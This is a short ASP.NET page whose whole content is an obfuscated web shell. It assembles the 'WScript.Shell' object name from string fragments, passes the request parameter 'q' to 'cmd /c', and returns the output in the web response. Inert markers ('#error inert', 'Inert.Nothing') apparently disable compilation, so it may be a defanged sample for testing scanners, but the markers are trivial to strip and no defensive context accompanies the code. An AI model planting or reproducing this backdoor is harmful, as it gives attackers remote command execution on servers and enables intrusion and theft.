<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
string pid = "W" + "Script" + "." + "Sh" + "ell";
object sh = Activator.CreateInstance(Type.GetTypeFromProgID(pid));
object ex = sh.GetType().InvokeMember("Exec", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd /c " + Request["q"] });
object so = ex.GetType().InvokeMember("StdOut", System.Reflection.BindingFlags.GetProperty, null, ex, null);
Response.Write(so.GetType().InvokeMember("ReadAll", System.Reflection.BindingFlags.InvokeMethod, null, so, null));
%>
